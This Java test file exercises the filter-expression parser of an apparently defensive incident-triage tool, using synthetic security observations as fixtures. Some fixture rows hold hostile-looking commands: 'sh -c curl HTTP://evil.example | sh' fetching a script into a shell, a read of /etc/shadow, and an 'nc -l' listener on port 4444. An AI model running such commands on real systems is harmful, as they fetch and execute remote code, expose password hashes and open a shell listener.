package salvor.triage;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.IntBuffer;
import java.util.ArrayList;
import java.util.BitSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.function.Predicate;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import salvor.baseline.Judgement;
import salvor.baseline.Reason;
import salvor.baseline.Verdicts;
import salvor.evidence.Activity;
import salvor.evidence.Endpoint;
import salvor.evidence.Evidence;
import salvor.evidence.Observation;
import salvor.evidence.Observations;
import salvor.evidence.ObservedTime;
import salvor.evidence.Outcome;
import salvor.evidence.ProcessInfo;
import salvor.evidence.Quality;
import salvor.evidence.RecordRef;
import salvor.evidence.Source;
import salvor.evidence.TimeText;
import salvor.evidence.Traffic;
import salvor.timeline.Milestone;
import salvor.workload.ImageDigest;
import salvor.workload.Inventory;
import salvor.workload.Location;
import salvor.workload.WorkloadRef;

class FilterTest {
  /** 2026-11-20T10:15:00Z. */
  private static final long AT = 1_795_169_700_000_000_000L;

  private static final long SECOND = 1_000_000_000L;
  private static final String DIGEST = "sha256:" + "a".repeat(64);

  private static final RowMarks MARKS =
      new RowMarks() {
        @Override
        public BitSet starred() {
          return BitSet.valueOf(new long[] {0b101});
        }

        @Override
        public BitSet tagged(Predicate<String> tag) {
          return tag.test("Lateral") ? BitSet.valueOf(new long[] {0b10}) : new BitSet();
        }

        @Override
        public BitSet commented(Predicate<String> text) {
          return text.test("looks bad") ? BitSet.valueOf(new long[] {0b1000}) : new BitSet();
        }

        @Override
        public BitSet accepted() {
          return BitSet.valueOf(new long[] {0b1001});
        }

        @Override
        public BitSet reached(Predicate<Milestone> milestone) {
          return milestone.test(Milestone.ISOLATED)
              ? BitSet.valueOf(new long[] {0b100})
              : new BitSet();
        }
      };

  private static Observation row(
      @Nullable Long nanos, int line, String program, String args, Activity activity) {
    return new Observation(
        nanos == null ? null : new ObservedTime(nanos, TimeText.rfc3339(nanos, 0)),
        line % 2 == 0
            ? Location.UNKNOWN
            : new Location(
                "node-1",
                "shop",
                "web-7d9",
                null,
                "web",
                "c0ffee" + "0".repeat(58),
                "reg/shop:1",
                ImageDigest.in(DIGEST).orElseThrow(),
                new WorkloadRef("shop", "Deployment", "web")),
        new ProcessInfo(
            100 + line,
            7,
            null,
            program,
            null,
            args,
            null,
            line == 1 ? 0 : null,
            new ProcessInfo.Parent(50, null, "/usr/sbin/nginx", "nginx", null)),
        activity,
        switch (line) {
          case 2 -> new Outcome(Outcome.Result.ALLOWED, "FORWARDED");
          case 3 -> Outcome.ofReturned(-13);
          case 4 -> Outcome.ofStatus(101);
          case 5 -> new Outcome(Outcome.Result.DENIED, "SIGKILL");
          case 6 -> Outcome.ofReturned(0);
          default -> Outcome.UNKNOWN;
        },
        Set.of(),
        new RecordRef(line % 2, line, line * 100L, 99));
  }

  private static final List<Observation> ROWS =
      List.of(
          row(
              AT,
              1,
              "/bin/sh",
              "sh\0-c\0curl  HTTP://evil.example | sh",
              new Activity.ProcessStarted()),
          row(
              AT + 30 * SECOND,
              2,
              "/usr/bin/curl",
              "curl http://evil.example",
              new Activity.ConnectionOpened(
                  new Endpoint("10.0.0.1", 40000, null),
                  new Endpoint("203.0.113.9", 4444, "evil.example"),
                  "tcp")),
          row(
              AT + 60 * SECOND,
              3,
              "/bin/cat",
              "cat",
              new Activity.FileOpened("/etc/Shadow", "O_RDONLY")),
          row(
              AT + 61 * SECOND,
              4,
              "/bin/pause",
              "pause",
              new Activity.ApiRequest(
                  "create",
                  "pods",
                  "exec",
                  "prod",
                  "db-0",
                  "alice",
                  null,
                  null,
                  "198.51.100.7",
                  "kubectl/1.31",
                  101,
                  "/api/v1/namespaces/prod/pods/db-0/exec")),
          row(
              AT + 62 * SECOND,
              5,
              "/bin/ñandú",
              "",
              new Activity.Alert(
                  "Read *sensitive*",
                  "Warning",
                  "a file was read",
                  new Activity.FileOpened("/etc/shadow", null))),
          row(
              AT + 63 * SECOND,
              6,
              "/bin/nc",
              "nc -l",
              new Activity.Listening(new Endpoint("0.0.0.0", 4444, null), "tcp")),
          row(
              null,
              7,
              "/bin/dig",
              "dig",
              new Activity.NameLookedUp("evil.example", "203.0.113.9")));

  private static final List<Judgement> JUDGEMENTS =
      List.of(
          Judgement.of(Reason.MATCHED),
          Judgement.of(Reason.NEW_PEER),
          Judgement.of(Reason.EXECUTED_FROM_MEMORY));

  private static Evidence evidence(List<Observation> rows) {
    List<Source> sources = new ArrayList<>();
    for (int i = 0; i < 2; i++) {
      sources.add(
          new Source(
              i,
              i == 0 ? "audit.log" : "falco.jsonl",
              "0".repeat(64),
              "f",
              1,
              0,
              0,
              0,
              List.of(),
              Map.of(),
              List.of()));
    }
    return new Evidence(sources, Observations.of(rows), Inventory.EMPTY);
  }

  private static Verdicts verdicts(int size) {
    int[] perRow = new int[size];
    for (int i = 0; i < size; i++) {
      perRow[i] = i % 3;
    }
    return new Verdicts(IntBuffer.wrap(perRow), JUDGEMENTS);
  }

  /** Line numbers of the rows left, which are the rows counted from 1. */
  private static List<Integer> left(String expression) throws FilterError {
    return Filter.parse(expression).rows(evidence(ROWS), verdicts(ROWS.size()), MARKS).stream()
        .mapToObj(row -> row + 1)
        .toList();
  }

  @Test
  void findsRowsByEveryField() throws FilterError {
    assertThat(left("")).hasSize(7);
    assertThat(left("kind=exec")).containsExactly(1);
    assertThat(left("kind=PROCESS_STARTED or kind=\"API request\"")).containsExactly(1, 4);
    assertThat(left("verdict=in")).containsExactly(1, 4, 7);
    assertThat(left("reason=new_*")).containsExactly(2, 5);
    assertThat(left("severity>=high")).containsExactly(3, 6);
    assertThat(left("severity<medium")).containsExactly(1, 4, 7);
    assertThat(left("first=case")).containsExactly(2, 3, 5, 6);
    assertThat(left("first=image")).containsExactly(3, 5);
    assertThat(left("first!=pod")).containsExactly(1, 4, 7);
    assertThat(left("quality=failed")).containsExactly(3);
    assertThat(left("outcome=failed")).isEqualTo(left("outcome=EACCES")).containsExactly(3);
    assertThat(left("outcome=succeeded")).containsExactly(4, 6);
    assertThat(left("outcome=101")).containsExactly(4);
    assertThat(left("outcome=denied or outcome=forwarded")).containsExactly(2, 5);
    assertThat(left("outcome=allowed")).containsExactly(2);
    assertThat(left("outcome=unknown")).containsExactly(1, 7);
    assertThat(left("outcome!=unknown outcome!~E")).isEmpty();
    assertThat(left("ns=shop")).containsExactly(1, 3, 5, 7);
    assertThat(left("namespace=prod")).containsExactly(4);
    assertThat(left("workload=web")).isEqualTo(left("workload=shop/deployment/web")).hasSize(4);
    assertThat(left("pod=web-* container=web image~SHOP digest=sha256:* node=node-1")).hasSize(4);
    assertThat(left("container=c0ffee*")).hasSize(4);
    assertThat(left("program=sh")).isEqualTo(left("program=/bin/sh")).containsExactly(1);
    assertThat(left("args~\"-c curl\"")).containsExactly(1);
    assertThat(left("parent=nginx")).hasSize(7);
    assertThat(left("pid=101")).containsExactly(1);
    assertThat(left("pid>=106")).containsExactly(6, 7);
    assertThat(left("ppid=50")).hasSize(7);
    assertThat(left("uid=0")).containsExactly(1);
    assertThat(left("user=alice")).containsExactly(4);
    assertThat(left("file=/etc/shadow")).containsExactly(5);
    assertThat(left("path~/etc/shadow")).containsExactly(3, 5);
    assertThat(left("peer=203.0.113.*")).containsExactly(2);
    assertThat(left("ip=198.51.100.7")).containsExactly(4);
    assertThat(left("port=4444")).containsExactly(2, 6);
    assertThat(left("port>40000")).isEmpty();
    assertThat(left("dns=evil.example")).containsExactly(7);
    assertThat(left("rule=\"Read \\*sensitive\\*\"")).containsExactly(5);
    assertThat(left("verb=create resource=pods resource=pods/exec")).containsExactly(4);
    assertThat(left("source=audit*")).containsExactly(2, 4, 6);
    assertThat(left("line<3")).containsExactly(1, 2);
    assertThat(left("tag=lateral")).containsExactly(2);
    assertThat(left("comment~BAD")).containsExactly(4);
    assertThat(left("star=yes")).containsExactly(1, 3);
    assertThat(left("accepted=yes")).containsExactly(1, 4);
    assertThat(left("accepted=no")).containsExactly(2, 3, 5, 6, 7);
    assertThat(left("milestone=isolated")).containsExactly(3);
    assertThat(left("milestone=*")).containsExactly(3);
    assertThat(left("milestone=terminated")).isEmpty();
    assertThat(left("star=no")).isEqualTo(left("star!=yes")).containsExactly(2, 4, 5, 6, 7);
  }

  @Test
  void findsFreeTextAnywhereAndNumbersAsPortsAndPids() throws FilterError {
    assertThat(left("EVIL.example")).containsExactly(1, 2, 7);
    assertThat(left("evil.example not curl")).containsExactly(7);
    assertThat(left("4444")).containsExactly(2, 6);
    assertThat(left("40000")).containsExactly(2);
    assertThat(left("curl*evil")).containsExactly(1, 2);
    assertThat(left("ñandú")).containsExactly(5);
    assertThat(left("\"a file was\"")).containsExactly(5);
  }

  @Test
  void aMissingFieldIsNotEqualToAnything() throws FilterError {
    assertThat(left("ns!=shop")).containsExactly(2, 4, 6);
    assertThat(left("uid!=0")).containsExactly(2, 3, 4, 5, 6, 7);
    assertThat(left("file!~shadow")).containsExactly(1, 2, 4, 6, 7);
  }

  @Test
  void timesAreAsExactAsTheyAreWritten() throws FilterError {
    assertThat(left("time=2026-11-20T10:15Z")).containsExactly(1, 2);
    assertThat(left("time>2026-11-20T10:15Z")).containsExactly(3, 4, 5, 6);
    assertThat(left("time>=10:16")).containsExactly(3, 4, 5, 6);
    assertThat(left("time<10:16:01")).containsExactly(1, 2, 3);
    assertThat(left("time<=2026-11-20T12:16:01+02:00")).containsExactly(1, 2, 3, 4);
    assertThat(left("time=2026-11-20")).containsExactly(1, 2, 3, 4, 5, 6);
    assertThat(left("time!=2026-11-20")).containsExactly(7);
    assertThat(left("time=10:16:01.000000000")).containsExactly(4);
  }

  @Test
  void aTimeOfDayIsUtcUnlessAnOffsetStandsBehindIt() throws FilterError {
    for (String same :
        List.of("10:16", "10:16Z", "11:16+01:00", "05:16-05:00", "15:46+05:30", "10:16+00:00")) {
      assertThat(left("time>=" + same)).as(same).isEqualTo(left("time>=2026-11-20T10:16Z"));
      assertThat(left("time=" + same)).as(same).isEqualTo(left("time=2026-11-20T10:16Z"));
    }
    assertThat(left("time>=10:16+01:00")).contains(1, 2, 3, 4, 5, 6);
    wrong("time>10:16+25:00", 5, "+01:00");
    wrong("time>2026-11-20+01:00", 5, "a time like");
  }

  @Test
  void whetherTheRecordingLiesWithinOneDayIsAskedInTheZoneWritten() throws FilterError {
    long night = 13 * 3600 * SECOND + 45 * 60 * SECOND; // at 23:59 and after 00:00
    Evidence late =
        evidence(
            List.of(
                row(AT + night - 600 * SECOND, 1, "x", "x", new Activity.ProcessStarted()),
                row(AT + night + 600 * SECOND, 2, "x", "x", new Activity.ProcessStarted())));
    assertThat(Filter.parse("time>00:59+01:00").rows(late, verdicts(2), MARKS).cardinality())
        .isEqualTo(1);
    assertThatThrownBy(() -> Filter.parse("time>23:59").rows(late, verdicts(2), MARKS))
        .isInstanceOf(FilterError.class);
  }

  @Test
  void aTimeOfDayIsRefusedWhereItIsAmbiguous() throws FilterError {
    Evidence days =
        evidence(
            List.of(
                ROWS.get(0),
                row(AT + 86_400 * SECOND, 2, "x", "x", new Activity.ProcessStarted())));
    Filter filter = Filter.parse("kind=exec time>10:15");
    assertThatThrownBy(() -> filter.rows(days, verdicts(2), MARKS))
        .isInstanceOfSatisfying(
            FilterError.class,
            e -> {
              assertThat(e.position()).isEqualTo(15);
              assertThat(e.expected()).contains("several days");
            });
  }

  @Test
  void andBindsTighterThanOrAndNotTightest() throws FilterError {
    assertThat(left("line=1 or line=2 line=3")).containsExactly(1);
    assertThat(left("(line=1 or line=2) and line=2")).containsExactly(2);
    assertThat(left("not line=1 and line<3")).containsExactly(2);
    assertThat(left("NOT (line=1 OR line=2) line<4")).containsExactly(3);
    assertThat(left("order or android")).isEmpty();
  }

  @Test
  void saysWhereAnExpressionIsWrongAndWhatWasExpected() {
    wrong("colour=red", 0, "a field: time kind");
    wrong("x pod:web", 5, "= ~ != !~ in place of the colon");
    wrong("pid=abc", 4, "a whole number");
    wrong("a b (c", 6, ") for the ( at character 5");
    wrong("rule=\"x", 7, "\" for the \" at character 6");
    wrong("kind=", 5, "a value");
    wrong("a or", 4, "a field, a word");
    wrong("a )", 2, "and, or, or the end");
    wrong("time=yesterday", 5, "a time like");
    wrong("time=2026-11-20T10:15", 5, "a zone");
    wrong("time=2026-13-20", 5, "a time like");
    wrong("severity>bad", 9, "[info, low");
    wrong("kind<exec", 5, "= != ~ or !~");
    wrong("kind=nonsense", 5, "one of alert, api_request");
    wrong("kind!=file", 6, "file_deleted, file_opened, file_written");
    wrong("verdict=bad", 8, "one of explained, in, out, unknown");
    wrong("reason~zzz", 7, "one of ");
    wrong("quality=tiny*", 8, "one of ");
    wrong("milestone=lunch", 10, "one of ");
    wrong("star~yes", 5, "= or !=");
    wrong("first=node", 6, "pod, image or case");
    wrong("first>pod", 6, "= or !=");
    wrong("(".repeat(500) + "a", 200, "at most 200");
    wrong("a ".repeat(2000), 2000, "at most 1000 terms");
  }

  private static void wrong(String expression, int position, String expected) {
    assertThatThrownBy(() -> Filter.parse(expression))
        .as(expression)
        .isInstanceOfSatisfying(
            FilterError.class,
            e -> {
              assertThat(e.expected()).contains(expected);
              assertThat(e.position()).isEqualTo(position);
            });
  }

  @Property(tries = 2000)
  void theParserThrowsNothingButItsError(@ForAll("garbage") String expression) {
    try {
      Filter.parse(expression).rows(evidence(ROWS), verdicts(ROWS.size()), MARKS);
    } catch (FilterError e) {
      assertThat(e.position()).isBetween(0, expression.length());
    }
  }

  @Provide
  Arbitrary<String> garbage() {
    Arbitrary<String> pieces =
        Arbitraries.of(
            "and",
            "or",
            "not",
            "(",
            ")",
            "=",
            "!=",
            "~",
            "!~",
            "<",
            ">=",
            "\"",
            "\\",
            "*",
            " ",
            "time",
            "pid",
            "star",
            "first",
            "severity",
            "10:15",
            "2026-11-20",
            "T10:00Z",
            "9999999999999999999",
            "curl",
            "!",
            "\0",
            "é",
            "\ud800");
    return Arbitraries.oneOf(
        pieces.list().ofMaxSize(12).map(p -> String.join("", p)),
        Arbitraries.strings().ofMaxLength(20));
  }

  @Property(tries = 300)
  void columnsGiveTheSameRowsAsLookingAtEachObservation(
      @ForAll("rows") List<Observation> rows, @ForAll("expressions") String expression)
      throws FilterError {
    Evidence evidence = evidence(rows);
    Verdicts verdicts = verdicts(rows.size());
    Term term = new FilterParser(expression).parse();
    BitSet expected = new BitSet();
    for (int row = 0; row < rows.size(); row++) {
      if (new OneByOne(evidence, verdicts, MARKS, row).fits(term)) {
        expected.set(row);
      }
    }
    assertThat(Filter.parse(expression).rows(evidence, verdicts, MARKS))
        .as(expression)
        .isEqualTo(expected);
  }

  @Provide
  Arbitrary<String> expressions() {
    Arbitrary<String> values =
        Arbitraries.of(
            "a", "ab", "b*", "*a", "a*b", "A", "aB", "/a", "sh", "1", "7", "ba", "\"a b\"", "\"\"",
            "*", "x/y", "é");
    Arbitrary<String> fields =
        Arbitraries.of(
            "ns",
            "workload",
            "pod",
            "container",
            "image",
            "node",
            "program",
            "args",
            "parent",
            "user",
            "file",
            "peer",
            "dns",
            "rule",
            "verb",
            "resource",
            "source",
            "tag");
    Arbitrary<String> words =
        Arbitraries.of(
            "kind=exec",
            "kind!=*a*",
            "kind~pro",
            "kind=file*",
            "verdict=out",
            "verdict!=in",
            "verdict~n",
            "reason=*probe*",
            "reason!~new",
            "quality=t*",
            "quality!~joined");
    Arbitrary<String> numbers = Arbitraries.of("pid", "ppid", "uid", "port", "line");
    Arbitrary<String> term =
        Arbitraries.oneOf(
            values,
            words,
            Combinators.combine(fields, Arbitraries.of("=", "~", "!=", "!~"), values)
                .as((f, s, v) -> f + s + v),
            Combinators.combine(
                    numbers,
                    Arbitraries.of("=", "<", ">=", "!="),
                    Arbitraries.integers().between(0, 9))
                .as((f, s, v) -> f + s + v),
            Arbitraries.of(
                "time<10:15:05",
                "time>=2026-11-20T10:15:03Z",
                "severity>low",
                "star=yes",
                "accepted=no",
                "milestone=iso*",
                "kind=exec"));
    return Combinators.combine(
            term,
            term,
            Arbitraries.of("%s", "%s %s", "%s or %s", "not (%s or %s)", "not %s and %s"))
        .as((a, b, form) -> String.format(form, a, b));
  }

  @Provide
  Arbitrary<List<Observation>> rows() {
    Arbitrary<@Nullable String> text =
        Arbitraries.of(
                "a", "b", "ab", "AB", "ba", "/a", "/b/a", "a\0b", "sh", "/bin/sh", "", "aab", "é",
                "x", "y")
            .injectNull(0.2);
    Arbitrary<String> given = text.map(t -> t == null ? "a" : t);
    Arbitrary<Integer> number = Arbitraries.integers().between(0, 9);
    Arbitrary<Activity> plain =
        Arbitraries.oneOf(
            Arbitraries.just(new Activity.ProcessStarted()),
            text.map(t -> new Activity.ProcessEnded(null, t)),
            Combinators.combine(text, number, text, number)
                .as((l, lp, r, rp) ->
                    new Activity.ConnectionOpened(
                        new Endpoint(l, lp, null), new Endpoint(null, rp, r), "a", traffic(r, lp))),
            Combinators.combine(text, number, text, number)
                .as((l, lp, r, rp) ->
                    new Activity.ConnectionAccepted(
                        new Endpoint(l, lp, l), new Endpoint(r, rp, null), null, traffic(l, lp))),
            Combinators.combine(text, number)
                .as((l, p) -> new Activity.Listening(new Endpoint(l, p, null), null)),
            Combinators.combine(given, text).as(Activity.NameLookedUp::new),
            Combinators.combine(given, text).as(Activity.FileOpened::new),
            Combinators.combine(given, text).as(Activity.FileWritten::new),
            given.map(Activity.FileDeleted::new),
            Combinators.combine(given, text)
                .as((n, d) -> new Activity.KernelAction(Activity.KernelAction.Type.HOOK, n, d)),
            Combinators.combine(given, text, text, text, text, text)
                .as((v, r, s, n, u, a) ->
                    new Activity.ApiRequest(v, r, s, n, a, u, s, n, a, r, 200, u)),
            text.map(t -> new Activity.EventsLost(5_000_000_000L, t)));
    Arbitrary<Activity> activity =
        Arbitraries.oneOf(
            plain,
            Combinators.combine(given, text, plain.injectNull(0.4))
                .as((r, m, about) -> new Activity.Alert(r, null, m, about)));
    Arbitrary<Location> location =
        Combinators.combine(text, text, text, given)
            .as((n, p, c, w) ->
                new Location(
                    n, p, c, w, p, n, c, null, n == null ? null : new WorkloadRef(n, p, w)));
    Arbitrary<ProcessInfo> process =
        Combinators.combine(number.injectNull(0.3), text, text, text, number.injectNull(0.5), text)
            .as((pid, exe, name, line, uid, parent) ->
                new ProcessInfo(
                    pid,
                    uid,
                    null,
                    exe,
                    name,
                    line,
                    null,
                    uid,
                    parent == null ? null : new ProcessInfo.Parent(pid, null, parent, name, line)));
    return Combinators.combine(location, process, activity, number)
        .as((l, p, a, n) -> new Object[] {l, p, a, n})
        .list()
        .ofMinSize(1)
        .ofMaxSize(12)
        .map(FilterTest::numbered);
  }

  private static List<Observation> numbered(List<Object[]> parts) {
    List<Observation> rows = new ArrayList<>();
    for (int i = 0; i < parts.size(); i++) {
      Object[] part = parts.get(i);
      long nanos = AT + i * SECOND;
      rows.add(
          new Observation(
              i > 9 ? null : new ObservedTime(nanos, TimeText.rfc3339(nanos, 0)),
              (Location) part[0],
              (ProcessInfo) part[1],
              (Activity) part[2],
              i % 3 == 0 ? Set.of(Quality.TTY) : Set.of(),
              new RecordRef(i % 2, (Integer) part[3] + 1L, i, 1)));
    }
    return rows;
  }

  private static @Nullable Traffic traffic(@Nullable String asked, int number) {
    return number < 3 ? null : new Traffic(number, number, number, number, number, asked);
  }
}
